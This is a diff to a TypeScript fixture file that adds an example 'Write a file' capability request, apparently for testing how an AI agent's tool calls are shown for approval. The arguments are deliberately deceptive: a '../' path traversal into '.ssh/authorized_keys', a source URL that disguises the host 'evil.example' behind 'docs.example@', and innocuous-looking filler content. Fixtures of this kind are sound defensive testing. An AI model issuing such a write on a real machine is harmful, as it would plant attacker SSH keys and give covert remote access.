@@ -91,6 +91,19 @@ export const giveKit: Part = {
   reason: 'Mia starts over after the lava.',
 }
 
+/** A file and a page, with what the schema calls them. */
+export const writeFile: Part = {
+  capabilityId: 'ext.files.write.file',
+  capabilityName: 'Write a file',
+  arguments: {
+    path: '/home/ada/notes/../.ssh/authorized_keys',
+    source: 'https://docs.example@evil.example/keys',
+    mode: 'w',
+    content: 'Build a tower of oak planks, then tell Mia. '.repeat(20),
+  },
+  labels: { path: { title: 'File' }, mode: { title: 'Mode', chosen: 'Replace it' } },
+}
+
 export const raisedQuestion: Part = {
   risk: 'high',
   raisedBy: [
